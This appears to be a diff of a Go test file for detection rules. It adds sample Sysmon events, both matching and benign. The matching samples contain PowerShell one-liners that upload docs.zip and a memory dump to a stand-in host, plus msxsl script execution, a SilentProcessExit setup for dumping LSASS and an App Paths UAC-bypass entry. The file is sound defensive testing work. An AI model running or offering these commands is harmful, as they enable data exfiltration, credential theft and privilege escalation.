@@ -340,6 +340,53 @@ ParameterBinding(Set-GPRegistryValue): name="Key"; value="HKLM\Software\Microsof
 				"Signed":      `false`,
 			},
 		},
+		{
+			ID:      "3d249e5f-72e6-4ad0-a06b-1b5c3d7e9f18", // File Uploaded by a PowerShell One-Liner
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
+				"CommandLine": `powershell -c "Invoke-WebRequest -Uri http://203.0.113.7/upload -Method POST -InFile C:\Users\Public\docs.zip"`,
+				"ParentImage": `C:\Windows\System32\cmd.exe`,
+			},
+		},
+		{
+			ID:      "3d249e5f-72e6-4ad0-a06b-1b5c3d7e9f18", // File Uploaded by a PowerShell One-Liner
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
+				"CommandLine": `powershell -c "(New-Object Net.WebClient).UploadFile('http://203.0.113.7/u.php','C:\Users\Public\l.dmp')"`,
+				"ParentImage": `C:\Windows\System32\cmd.exe`,
+			},
+		},
+		{
+			ID:      "4e35af60-83f7-4be1-b17c-2c6d4e8f0a29", // XSL Script Run With msxsl.exe
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Users\Public\msxsl.exe`,
+				"CommandLine": `msxsl.exe C:\Users\Public\a.xml C:\Users\Public\a.xsl`,
+				"ParentImage": `C:\Windows\System32\cmd.exe`,
+			},
+		},
+		{
+			ID:      "5f46b071-94a8-4cf2-8c8d-3d7e5f9a1b3a", // Silent Process Exit Monitoring Set Up for LSASS
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
+			Fields: map[string]string{
+				"EventType":    `SetValue`,
+				"Image":        `C:\Windows\system32\reg.exe`,
+				"TargetObject": `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\lsass.exe\ReportingMode`,
+				"Details":      `DWORD (0x00000002)`,
+			},
+		},
+		{
+			ID:      "6057c182-a5b9-4d03-9e9e-4e8f6a0b2c4b", // Per-User App Paths Entry Redirects an Auto-Elevating Program's Helper
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
+			Fields: map[string]string{
+				"EventType":    `SetValue`,
+				"Image":        `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
+				"TargetObject": `HKU\S-1-5-21-1-2-3-1104\Software\Microsoft\Windows\CurrentVersion\App Paths\control.exe\(Default)`,
+				"Details":      `C:\Windows\System32\cmd.exe`,
+			},
+		},
 	}...)
 
 	ruleNegatives = append(ruleNegatives, []ruleSample{
@@ -625,6 +672,44 @@ ParameterBinding(Get-ADUser): name="Identity"; value="krbtgt"`,
 				"Image":       `C:\Windows\explorer.exe`,
 				"ImageLoaded": `C:\Users\bob\AppData\Local\Programs\Contoso\ShellExt64.dll`,
 				"Signed":      `false`,
+			},
+		},
+		{
+			ID:      "3d249e5f-72e6-4ad0-a06b-1b5c3d7e9f18", // File Uploaded by a PowerShell One-Liner
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
+				"CommandLine": `powershell -c "Invoke-WebRequest -Uri https://download.example.com/tool.zip -OutFile C:\Temp\tool.zip"`,
+				"ParentImage": `C:\Windows\System32\cmd.exe`,
+			},
+		},
+		{
+			ID:      "4e35af60-83f7-4be1-b17c-2c6d4e8f0a29", // XSL Script Run With msxsl.exe
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Windows\System32\xcopy.exe`,
+				"CommandLine": `xcopy C:\build\*.xsl D:\out\ /y`,
+				"ParentImage": `C:\Windows\System32\cmd.exe`,
+			},
+		},
+		{
+			ID:      "5f46b071-94a8-4cf2-8c8d-3d7e5f9a1b3a", // Silent Process Exit Monitoring Set Up for LSASS
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
+			Fields: map[string]string{
+				"EventType":    `SetValue`,
+				"Image":        `C:\Windows\system32\reg.exe`,
+				"TargetObject": `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\LSASS.exe\AuditLevel`,
+				"Details":      `DWORD (0x00000008)`,
+			},
+		},
+		{
+			ID:      "6057c182-a5b9-4d03-9e9e-4e8f6a0b2c4b", // Per-User App Paths Entry Redirects an Auto-Elevating Program's Helper
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
+			Fields: map[string]string{
+				"EventType":    `SetValue`,
+				"Image":        `C:\Users\bob\AppData\Local\Google\Chrome\Application\chrome.exe`,
+				"TargetObject": `HKU\S-1-5-21-1-2-3-1104\Software\Microsoft\Windows\CurrentVersion\App Paths\chrome.exe\(Default)`,
+				"Details":      `C:\Users\bob\AppData\Local\Google\Chrome\Application\chrome.exe`,
 			},
 		},
 	}...)
